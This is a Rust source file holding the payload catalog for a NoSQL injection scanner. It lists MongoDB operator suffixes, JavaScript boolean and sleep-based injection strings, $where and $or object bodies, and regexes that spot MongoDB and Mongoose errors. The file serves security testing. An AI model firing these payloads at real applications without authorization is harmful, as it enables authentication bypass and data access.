//! Static payload catalog and error-matching regexes.
//!
//! Values here are bit-stable: every list is taken verbatim from the
//! NoSQL injection payload set this engine implements (Mongo operator
//! suffixes, JS true/false strings, object-replacement bodies, error
//! regexes). Grounded in `original_source/data/injectionData.go`.

use once_cell::sync::Lazy;
use regex::Regex;

pub const VERSION: &str = "0.5.2";
pub const VERSION_NAME: &str = "Alpha";

pub const MONGO_SPECIAL_CHARACTERS: &[&str] = &["'", "\"", "$", ".", ">", "[", "]"];
pub const MONGO_SPECIAL_KEY_CHARACTERS: &[&str] = &["[$]"];
pub const MONGO_JSON_ERROR_ATTACKS: &[&str] = &[r#"{"foo": 1}"#];
pub const MONGO_GET_INJECTION: &[&str] = &["[$nin][]", "[$ne]", "[$gt]", "[$lt]"];

/// Only single quotes are used when generating JS injections; double quotes
/// are swapped in per-test via `JS_PREFIXES`/`JS_SUFFIXES`. True and false
/// injections for a single test always share a quote style, or the
/// comparison is meaningless.
pub const JS_PREFIXES: &[&str] = &["", "'", "\""];
pub const JS_SUFFIXES: &[&str] = &["", "'", "\"", "//", "'}//"];
pub const JS_TRUE_STRINGS: &[&str] = &[
    " && 'a'=='a' && 'a'=='a",
    " || 'a'=='a' || 'a'=='a",
    ";return true;",
];
pub const JS_FALSE_STRINGS: &[&str] = &[" && 'a'!='a' && 'a'!='a", ";return false;"];

const SLEEP_PLACEHOLDER: &str = "TimeToSleep";
pub const JS_TIMING_STRINGS_RAW: &[&str] = &[";sleep(TimeToSleep);"];
pub const JS_TIMING_OBJECT_INJECTIONS_RAW: &[&str] = &[r#"{"$where": "sleep(TimeToSleep)"}"#];

/// Substitutes the sleep placeholder in a timing template with a concrete
/// millisecond count.
pub fn js_timing_strings(raw: &[&str], sleep_ms: u64) -> Vec<String> {
    raw.iter()
        .map(|s| s.replace(SLEEP_PLACEHOLDER, &sleep_ms.to_string()))
        .collect()
}

pub const OBJECT_INJECTIONS_TRUE: &[&str] = &[
    r#"{"$where": "return true"}"#,
    r#"{"$or": [{},{"foo":"1"}]}"#,
];
pub const OBJECT_INJECTIONS_FALSE: &[&str] = &[
    r#"{"$where": "return false"}"#,
    r#"{"$or": [{"foo":"1"},{"foo":"1"}]}"#,
];

pub static MONGO_ERROR_STRINGS: Lazy<Vec<Regex>> = Lazy::new(|| {
    vec![
        Regex::new(r"Uncaught MongoDB\\Driver\\Exception\\CommandException: unknown operator")
            .expect("static MongoDB error regex must compile"),
        Regex::new(r"(?i)MongoError").expect("static MongoError regex must compile"),
        Regex::new(r"(?i)unterminated string literal")
            .expect("static unterminated-string regex must compile"),
    ]
});

pub static MONGOOSE_ERROR_STRINGS: Lazy<Vec<Regex>> = Lazy::new(|| {
    vec![Regex::new(r"(?i)Cast to string failed for value")
        .expect("static Mongoose error regex must compile")]
});

/// Generic JS errors that don't indicate a specific subsystem, but may
/// indicate JS injection rather than a Mongo-specific one.
pub static JS_SYNTAX_ERROR_STRINGS: Lazy<Vec<Regex>> =
    Lazy::new(|| vec![Regex::new(r"SyntaxError").expect("static SyntaxError regex must compile")]);
